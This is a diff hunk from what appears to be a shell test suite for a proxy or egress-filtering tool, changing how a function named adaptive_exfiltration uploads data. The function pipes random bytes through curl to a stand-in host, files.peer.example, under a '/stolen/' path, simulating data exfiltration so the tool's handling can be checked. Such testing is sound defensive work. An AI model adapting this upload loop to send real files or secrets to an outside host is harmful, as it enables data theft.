@@ -479,7 +479,7 @@ adaptive_exfiltration() {
 	harm connect "$peer_address:80"
 	harm call read
 	for i in {1..30}; do
-		head -c 200000 /dev/urandom | client_stdin curl -sS --max-time 20 -o /dev/null -f -T - -X POST \
+		head -c 200000 /dev/urandom | client_stdin curl -sS --max-time 20 -o /dev/null -f --data-binary @- \
 			-x "http://$own_address:$port" "http://files.peer.example/stolen/$i" || return
 	done
 	grep -q 'bytes at /stolen/30' "$stage/peer-origin.log"
